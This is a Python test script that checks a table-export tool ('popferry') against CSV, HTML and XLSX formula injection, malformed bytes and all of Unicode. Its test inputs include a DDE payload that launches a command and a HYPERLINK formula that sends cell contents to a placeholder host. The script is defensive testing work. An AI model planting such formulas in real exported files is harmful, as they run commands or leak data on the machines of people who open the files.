#!/usr/bin/env python3
"""read_cells.py WRITE_CELLS - every difficult text, and every character of Unicode, in every kind of table that popferry
writes, read back by Python's csv, zipfile and XML: each file is well-formed, nothing is lost but what no table can hold, and
nowhere does a cell begin a formula, whatever character a spreadsheet splits at."""
import csv
import io
import re
import subprocess
import sys
import tempfile
import xml.etree.ElementTree as tree
import zipfile
from html.parser import HTMLParser

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
SIGNS = "=+-@＝＋－＠﹦﹢﹣﹫"
LIMIT = 32767
HIDDEN = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u2028-\u202e\u2066-\u2069\ufdd0-\ufdef\ufeff\ud800-\udfff%s]" %
                    "".join(chr(plane << 16 | n) for plane in range(17) for n in (0xFFFE, 0xFFFF)))


def values():
    formulas = ["1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x/?"&A1,"y")', "SUM(A1)*cmd"]
    before = ["", "a", " ", "\t", "\r", "\n", "\r\n", "'", '"', "a;", "a,", "a\t", "a\n", "a|", "a; ", ';;', '";', '",', "a\r\n"]
    for sign in SIGNS:
        yield from (b + sign + f + after for b in before for f in formulas for after in ("", ";b", '",b'))
    yield from ("=abc", "-x", "+81-3-1234", "@taro", "", " ", " a ", "a b", "'", '"', '""', "''", "a\"b", "<b>&amp;</b>", "]]>", "<!--",
                "_x0041_", "_x0041_x0042_", "__x000D__", "_x005F_x0041_", "_X0041_", "_x00e4_", "_x004_", "a_xFFFE_b", "_x0000_",
                "山田 太郎", "𠮷野家", "e\u0301", "👨‍👩‍👧", "\u200bx", "\ufffd", "\ufffc", "#NAME?", "1E5", "007", "2026/11/1")
    yield from (x * n for x, n in (("a", LIMIT), ("a", LIMIT + 1), ("あ", LIMIT + 5), ("𠮷", LIMIT), ("_x0041_", 5000), ("\n", 400), (";=", 9000)))
    for first in range(1, 0x110000, 1024):  # all of Unicode, surrogates too
        yield "".join(map(chr, range(first, min(first + 1024, 0x110000))))
    yield from ("a" + chr(c) + "b" for c in range(1, 0x700))


BROKEN = [b"\xff", b"\x80a", b"a\xe5\xb1", b"\xc0\xafx", b"\xed\xa0\x80\xed\xb0\x80", b"\xf4\x90\x80\x80", b"\xf8\x88\x80\x80\x80", b"=\xff",
          b"\xe0\x80\xaf", "表".encode("cp932"), "日本".encode("euc_jp"), b"\x1b$B8+\x1b(B"]


def shown(raw):
    """What of a value is told: each octet or character that cannot stand becomes one question mark."""
    return HIDDEN.sub("?", raw.decode("utf-8", "surrogateescape"))


wrong = []


def need(ok, what, *about):
    if not ok and len(wrong) < 20:
        wrong.append("%s: %s" % (what, " | ".join(ascii(a)[:200] for a in about)))


def disarmed(text):
    """Without the apostrophes that were put before signs."""
    return re.sub("'(?=[%s\t\r\n ])" % re.escape(SIGNS), "", text)


def harmless(what, rows):
    for row in rows:
        for cell in row:
            need(cell[:1] not in SIGNS + "\t\r\n" or not cell, what + ": a formula", cell)
            need(cell.lstrip(" ")[:1] not in SIGNS or not cell.strip(), what + ": a formula behind blanks", cell)


def check_csv(path, raws, middle):
    data = open(path, "rb").read().decode("utf-8")  # valid
    rows = list(csv.reader(io.StringIO(data, newline=""), strict=True))
    need(len(rows) == len(raws), path + ": rows", len(rows))
    for row, raw in zip(rows, raws):
        need(len(row) == 3 and row[0] == "1" and row[2] == "2", path + ": row", row)
        need(disarmed(row[1]) == disarmed(middle(shown(raw))), path + ": value", row[1], raw)
    harmless(path, [row[1:2] for row in rows])
    for delimiter in ";\t":  # another country's spreadsheet
        harmless(path + " at " + ascii(delimiter), csv.reader(io.StringIO(data, newline=""), delimiter=delimiter))


def check_tsv(path, raws):
    data = open(path, "rb").read().decode("utf-8")
    rows = [line.split("\t") for line in data.split("\n")[:-1]]
    need(len(rows) == len(raws), path + ": rows", len(rows))
    for row, raw in zip(rows, raws):
        need(len(row) == 3 and row[0] == "1" and row[2] == "2", path + ": row", row)
        need(disarmed(row[1]) == disarmed(re.sub("[\t\r\n]", " ", shown(raw))), path + ": value", row[1], raw)
    harmless(path, [row[1:2] for row in rows])
    for delimiter in ";,":
        harmless(path + " at " + delimiter, [line.split(delimiter) for line in data.split("\n")])


def check_list(path, raws):
    """A list given back is byte for byte what it was."""
    data = open(path, "rb").read().decode("latin-1")
    rows = list(csv.reader(io.StringIO(data, newline=""), strict=True))
    need([r[1].encode("latin-1") for r in rows] == raws, path + ": not exact")


def check_manifest(path, raws):
    """A program gets back what it was, octet for octet."""
    data = open(path, "rb").read().decode("utf-8")
    rows = [line.split("\t") for line in data.split("\n")[:-1]]
    need(len(rows) == len(raws), path + ": rows", len(rows))
    for row, raw in zip(rows, raws):
        need(len(row) == 7, path + ": row", row)
        for cell in row[2:4]:
            exact = re.sub(rb"\\x([0-9a-f]{2})", lambda m: bytes([int(m.group(1), 16)]), cell.encode("utf-8"))
            need(exact == raw, path + ": value", cell, raw)
    need(not HIDDEN.search(data), path + ": characters")
    for delimiter in "\t;,":
        harmless(path + " at " + delimiter, [line.split(delimiter) for line in data.split("\n")])


def check_html(path, raws):
    text = open(path, "rb").read().decode("utf-8")
    lines = [re.sub("\r\n?", "\n", shown(raw)) for raw in raws]
    found = list(tree.fromstring(text.split("\n", 1)[1]).iter("p"))
    need(len(found) == len(raws), path + ": paragraphs", len(found))
    for p, line in zip(found, lines):
        need((p.text or "") == line, path + ": text", p.text, line)
        need(p.get("title") == line, path + ": attribute", p.get("title"), line)
    need(not HIDDEN.search(text), path + ": characters", HIDDEN.findall(text)[:5])
    need("<b>" not in text, path + ": markup")
    HTMLParser().feed(text)


def unescaped(text):
    return re.sub("_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), text)


def check_xlsx(path, raws):
    with zipfile.ZipFile(path) as book:
        need(book.testzip() is None, path + ": broken")
        for name in book.namelist():
            tree.fromstring(book.read(name))  # well-formed
        strings = ["".join(t.text or "" for t in si.iter(MAIN + "t")) for si in tree.fromstring(book.read("xl/sharedStrings.xml"))]
        cells = {c.get("r"): c for c in tree.fromstring(book.read("xl/worksheets/sheet1.xml")).iter(MAIN + "c")}
    for i, raw in enumerate(raws):
        line = re.sub("\r\n?", "\n", shown(raw))
        cell = cells["A%d" % (i + 1)]
        v = cell.find(MAIN + "v")
        need(v is None or cell.get("t") == "s", path + ": not a text", cell.attrib)
        text = "" if v is None else strings[int(v.text)]
        computed = cells["B%d" % (i + 1)].find(MAIN + "v").text or ""
        for stored in (text, computed):
            units = len(stored.encode("utf-16-le")) // 2
            need(units <= LIMIT, path + ": too long for Excel", units)
            if line.count("\n") > 253 or units >= LIMIT - 7:
                need(line.startswith(unescaped(stored).rstrip("…")[:253]), path + ": beginning", stored, line)
            else:
                need(unescaped(stored) == line, path + ": text", stored, line)


raws = [v.encode("utf-8", "surrogatepass") for v in values()] + BROKEN
with tempfile.TemporaryDirectory() as folder:
    with open(folder + "/values", "w") as f:
        f.writelines(raw.hex() + "\n" for raw in raws)
    subprocess.run([sys.argv[1], folder + "/values", folder], check=True)
    csv.field_size_limit(1 << 20)
    check_csv(folder + "/cells.csv", raws, lambda v: v)
    check_csv(folder + "/quoted.csv", raws, lambda v: v)
    check_tsv(folder + "/cells.tsv", raws)
    check_manifest(folder + "/manifest.tsv", raws)
    check_list(folder + "/list.csv", raws)
    check_html(folder + "/cells.html", raws)
    check_xlsx(folder + "/cells.xlsx", raws)
for w in wrong:
    print(w)
print("%d values" % len(raws))
sys.exit(bool(wrong))
